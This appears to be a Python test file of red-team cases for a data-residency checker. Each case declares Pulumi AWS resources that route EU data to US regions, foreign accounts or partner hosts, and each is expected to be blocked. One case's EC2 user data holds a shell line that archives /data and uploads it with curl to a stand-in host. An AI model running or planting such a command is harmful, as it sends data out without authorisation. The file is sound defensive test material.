"""Paths out of the EU that issue 9 does not name, by delivering, forwarding or routing data to another
region, a host outside AWS or anyone: each must be blocked (FAIL or UNKNOWN)."""

import json

import pulumi_aws as aws

from redteam_cases.registry import FOREIGN, HOME, ROLE, case


@case("block")
def datasync_task_to_us_location() -> None:
    aws.datasync.Task(
        "sync",
        source_location_arn=f"arn:aws:datasync:eu-west-1:{HOME}:location/loc-1",
        destination_location_arn=f"arn:aws:datasync:us-east-1:{HOME}:location/loc-2",
    )


@case("block")
def datasync_nfs_outside_aws() -> None:
    aws.datasync.NfsLocation(
        "nas",
        server_hostname="nas.partner.example",
        subdirectory="/exports",
        on_prem_config={"agent_arns": [f"arn:aws:datasync:eu-west-1:{HOME}:agent/agent-1"]},
    )


@case("block")
def dms_target_outside_aws() -> None:
    aws.dms.Endpoint(
        "target",
        endpoint_id="target",
        endpoint_type="target",
        engine_name="postgres",
        server_name="db.partner.example",
        port=5432,
        database_name="records",
        username="u",
        password="p",
    )


@case("block")
def bedrock_agent_us_profile_id() -> None:
    aws.bedrock.AgentAgent(
        "helper",
        agent_name="helper",
        agent_resource_role_arn=ROLE,
        foundation_model="us.anthropic.claude-3-5-sonnet-20241022-v2:0",
        instruction="Answer questions about records.",
    )


@case("block")
def apigw_http_integration_outside_aws() -> None:
    aws.apigatewayv2.Integration(
        "forward",
        api_id="api",
        integration_type="HTTP_PROXY",
        integration_method="ANY",
        integration_uri="https://collector.partner.example/ingest",
    )


@case("block")
def sns_https_subscription() -> None:
    aws.sns.TopicSubscription(
        "hook",
        topic="arn:aws:sns:eu-west-1:111111111101:events",
        protocol="https",
        endpoint="https://hooks.partner.example/events",
    )


@case("block")
def sns_sms_subscription() -> None:
    aws.sns.TopicSubscription(
        "sms", topic="arn:aws:sns:eu-west-1:111111111101:events", protocol="sms", endpoint="+15555550100"
    )


@case("block")
def ses_event_destination_us_topic() -> None:
    aws.sesv2.ConfigurationSetEventDestination(
        "events",
        configuration_set_name="mail",
        event_destination_name="bounces",
        event_destination={
            "matching_event_types": ["BOUNCE"],
            "enabled": True,
            "sns_destination": {"topic_arn": f"arn:aws:sns:us-east-1:{HOME}:bounces"},
        },
    )


@case("block")
def global_accelerator_us_endpoints() -> None:
    aws.globalaccelerator.EndpointGroup(
        "group",
        listener_arn="arn:aws:globalaccelerator::111111111101:accelerator/a/listener/l",
        endpoint_group_region="us-east-1",
        endpoint_configurations=[
            {"endpoint_id": f"arn:aws:elasticloadbalancing:us-east-1:{HOME}:loadbalancer/app/web/1"}
        ],
    )


@case("block")
def appsync_http_datasource_outside_aws() -> None:
    aws.appsync.DataSource(
        "partner", api_id="api", name="partner", type="HTTP", http_config={"endpoint": "https://graph.partner.example"}
    )


@case("block")
def appflow_to_foreign_bucket() -> None:
    aws.appflow.Flow(
        "export",
        trigger_config={"trigger_type": "OnDemand"},
        source_flow_config={
            "connector_type": "S3",
            "source_connector_properties": {"s3": {"bucket_name": "records-eu"}},
        },
        destination_flow_configs=[
            {"connector_type": "S3", "destination_connector_properties": {"s3": {"bucket_name": "partner-drop-us"}}}
        ],
        tasks=[{"source_fields": ["id"], "task_type": "Map", "destination_field": "id"}],
    )


@case("block")
def eventbridge_global_endpoint_us() -> None:
    aws.cloudwatch.EventEndpoint(
        "global",
        name="events",
        role_arn=ROLE,
        event_buses=[
            {"event_bus_arn": f"arn:aws:events:eu-west-1:{HOME}:event-bus/b"},
            {"event_bus_arn": f"arn:aws:events:us-east-1:{HOME}:event-bus/b"},
        ],
        routing_config={
            "failover_config": {
                "primary": {"health_check": "arn:aws:route53:::healthcheck/h"},
                "secondary": {"route": "us-east-1"},
            }
        },
    )


@case("block")
def observability_link_us_sink() -> None:
    aws.oam.Link(
        "telemetry",
        label_template="$AccountName",
        resource_types=["AWS::Logs::LogGroup"],
        sink_identifier=f"arn:aws:oam:us-east-1:{FOREIGN}:sink/s",
    )


@case("block")
def s3_inventory_to_foreign_bucket() -> None:
    aws.s3.Inventory(
        "inv",
        bucket="records",
        name="all",
        included_object_versions="All",
        schedule={"frequency": "Daily"},
        destination={
            "bucket": {"format": "CSV", "bucket_arn": "arn:aws:s3:::partner-inventory", "account_id": FOREIGN}
        },
    )


@case("block")
def bedrock_global_inference_profile() -> None:
    # Its ARN is in eu-west-1, but a `global.` system profile routes requests to any commercial region.
    aws.bedrock.InferenceProfile(
        "assistant",
        name="assistant",
        model_source={
            "copy_from": "arn:aws:bedrock:eu-west-1::inference-profile/global.anthropic.claude-sonnet-4-20250514-v1:0"
        },
    )


@case("block")
def bedrock_us_inference_profile() -> None:
    aws.bedrock.InferenceProfile(
        "assistant",
        name="assistant",
        model_source={
            "copy_from": f"arn:aws:bedrock:eu-west-1:{HOME}:inference-profile/us.anthropic.claude-3-haiku-20240307-v1:0"
        },
    )


@case("block")
def firehose_to_splunk() -> None:
    aws.kinesis.FirehoseDeliveryStream(
        "siem",
        name="siem",
        destination="splunk",
        splunk_configuration={
            "hec_endpoint": "https://splunk.partner.example:8088",
            "hec_token": "t",
            "s3_configuration": {"role_arn": ROLE, "bucket_arn": "arn:aws:s3:::records-backup"},
        },
    )


@case("block")
def msk_replicator_to_us() -> None:
    aws.msk.Replicator(
        "mirror",
        replicator_name="mirror",
        service_execution_role_arn=ROLE,
        kafka_clusters=[
            {
                "amazon_msk_cluster": {"msk_cluster_arn": f"arn:aws:kafka:eu-west-1:{HOME}:cluster/eu/1"},
                "vpc_config": {"subnet_ids": ["subnet-1"]},
            },
            {
                "amazon_msk_cluster": {"msk_cluster_arn": f"arn:aws:kafka:us-east-1:{HOME}:cluster/us/2"},
                "vpc_config": {"subnet_ids": ["subnet-2"]},
            },
        ],
        replication_info_list={
            "source_kafka_cluster_arn": f"arn:aws:kafka:eu-west-1:{HOME}:cluster/eu/1",
            "target_kafka_cluster_arn": f"arn:aws:kafka:us-east-1:{HOME}:cluster/us/2",
            "target_compression_type": "NONE",
            "topic_replications": [{"topics_to_replicates": [".*"]}],
            "consumer_group_replications": [{"consumer_groups_to_replicates": [".*"]}],
        },
    )


@case("block")
def cognito_trigger_in_us() -> None:
    aws.cognito.UserPool(
        "users", name="users", lambda_config={"pre_sign_up": f"arn:aws:lambda:us-east-1:{HOME}:function:screen"}
    )


@case("block")
def step_function_http_task_outside_aws() -> None:
    definition = {
        "StartAt": "Send",
        "States": {
            "Send": {
                "Type": "Task",
                "End": True,
                "Resource": "arn:aws:states:::http:invoke",
                "Parameters": {"ApiEndpoint": "https://api.partner.example/records", "Method": "POST"},
            }
        },
    }
    aws.sfn.StateMachine("flow", role_arn=ROLE, definition=json.dumps(definition))


@case("block")
def fsx_association_to_us_bucket() -> None:
    aws.fsx.DataRepositoryAssociation(
        "dra", file_system_id="fs-1", file_system_path="/records", data_repository_path="s3://partner-drop-us/records"
    )


@case("block")
def athena_results_to_foreign_bucket() -> None:
    aws.athena.Workgroup(
        "analytics",
        name="analytics",
        configuration={"result_configuration": {"output_location": "s3://partner-results-us/athena/"}},
    )


@case("block")
def emr_logs_to_foreign_bucket() -> None:
    aws.emr.Cluster(
        "spark",
        name="spark",
        release_label="emr-7.0.0",
        service_role=ROLE,
        log_uri="s3://partner-logs-us/emr/",
        master_instance_group={"instance_type": "m5.xlarge"},
        ec2_attributes={"instance_profile": "emr", "subnet_id": "subnet-1"},
    )


@case("block")
def imagebuilder_distribution_us() -> None:
    aws.imagebuilder.DistributionConfiguration(
        "dist",
        name="dist",
        distributions=[
            {"region": "eu-west-1", "ami_distribution_configuration": {"name": "base-{{ imagebuilder:buildDate }}"}},
            {"region": "us-east-1", "ami_distribution_configuration": {"name": "base-{{ imagebuilder:buildDate }}"}},
        ],
    )


@case("block")
def codepipeline_artifacts_us() -> None:
    aws.codepipeline.Pipeline(
        "ci",
        name="ci",
        role_arn=ROLE,
        artifact_stores=[
            {"location": "artifacts-eu", "type": "S3", "region": "eu-west-1"},
            {"location": "artifacts-us", "type": "S3", "region": "us-east-1"},
        ],
        stages=[
            {
                "name": "Source",
                "actions": [
                    {
                        "name": "s",
                        "category": "Source",
                        "owner": "AWS",
                        "provider": "S3",
                        "version": "1",
                        "output_artifacts": ["src"],
                        "configuration": {"S3Bucket": "artifacts-eu", "S3ObjectKey": "src.zip"},
                    }
                ],
            }
        ],
    )


@case("block")
def waf_logs_to_us_firehose() -> None:
    aws.wafv2.WebAclLoggingConfiguration(
        "waf",
        resource_arn=f"arn:aws:wafv2:eu-west-1:{HOME}:regional/webacl/w/1",
        log_destination_configs=[f"arn:aws:firehose:us-east-1:{HOME}:deliverystream/aws-waf-logs-us"],
    )


@case("block")
def instance_user_data_uploads_out() -> None:
    aws.ec2.Instance(
        "worker",
        ami="ami-12345678",
        instance_type="t3.micro",
        user_data="#!/bin/sh\ntar cz /data | curl -T - https://drop.partner.example/upload\n",
    )


@case("block")
def glacier_notification_us_topic() -> None:
    aws.glacier.Vault(
        "archive",
        name="archive",
        notification={"sns_topic": f"arn:aws:sns:us-east-1:{HOME}:archive", "events": ["ArchiveRetrievalCompleted"]},
    )


@case("block")
def iot_rule_http_outside_aws() -> None:
    aws.iot.TopicRule(
        "telemetry",
        name="telemetry",
        enabled=True,
        sql="SELECT * FROM 'devices/#'",
        sql_version="2016-03-23",
        https=[{"url": "https://ingest.partner.example/iot"}],
    )
